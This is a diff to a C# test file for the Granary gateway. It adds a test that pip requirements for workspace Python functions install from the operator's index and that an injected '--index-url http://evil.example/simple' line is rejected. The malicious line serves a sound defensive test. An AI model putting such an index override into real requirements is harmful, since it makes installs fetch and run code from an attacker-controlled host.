@@ -1,5 +1,8 @@
 using System.Net;
+using System.Text;
 using System.Text.Json;
+using System.Text.Json.Nodes;
+using Granary.Gateway.Tests.CustomCode;
 using Granary.Runtime.Packages;
 
 namespace Granary.Gateway.Tests.Python;
@@ -98,6 +101,28 @@ public sealed class PythonRequirementsTests(PythonRequirementsTests.Fixture fixt
         Assert.Equal("requirements: must be a list of requirement lines or the text of a requirements.txt.", shapeProblem.GetProperty("detail").GetString());
         Assert.Equal(HttpStatusCode.BadRequest, runtime);
         Assert.Equal("requirements: pip requirements are for python functions; a nodejs function lists its npm packages in dependencies.", runtimeProblem.GetProperty("detail").GetString());
+    }
+
+    [Fact]
+    public async Task PythonSnippetsOfAWorkspaceImportItsRequirements()
+    {
+        var ws = CustomCodeFixture.Workspace();
+        var snippet = CustomCodeCalls.Snippet("import granaryprobe\nreturn granaryprobe.VALUE");
+        snippet["language"] = "python";
+        var body = new JsonObject { ["functions"] = new JsonObject { ["probe"] = snippet }, ["requirements"] = "granaryprobe==1.0\n" };
+        var evil = new JsonObject { ["functions"] = new JsonObject { ["probe"] = snippet.DeepClone() }, ["requirements"] = new JsonArray("--index-url http://evil.example/simple") };
+
+        var stored = await Server.Http.PostAsync($"/v2/functions/{ws}", new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"));
+        var refused = await Server.Http.PostAsync($"/v2/functions/{CustomCodeFixture.Workspace()}", new StringContent(evil.ToJsonString(), Encoding.UTF8, "application/json"));
+
+        Assert.True(stored.IsSuccessStatusCode, await stored.Content.ReadAsStringAsync());
+        Assert.Equal("wheel-ok", (await Server.ResultAsync(ws, "probe")).GetString());
+        Assert.Equal("[\"granaryprobe==1.0\",\"\"]", (await Server.GetJsonAsync($"/v2/functions/{ws}")).GetProperty("requirements").GetRawText());
+        var error = JsonDocument.Parse(await refused.Content.ReadAsStringAsync()).RootElement;
+        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
+        Assert.Equal(
+            "request/body/requirements: pip requirement '--index-url http://evil.example/simple': '--index-url' is not allowed: packages come from the operator's index (Granary:Pip:IndexUrl).",
+            error.GetProperty("message").GetString());
     }
 
     /// <summary>A server whose pip installs from an index on loopback holding wheels built here.</summary>
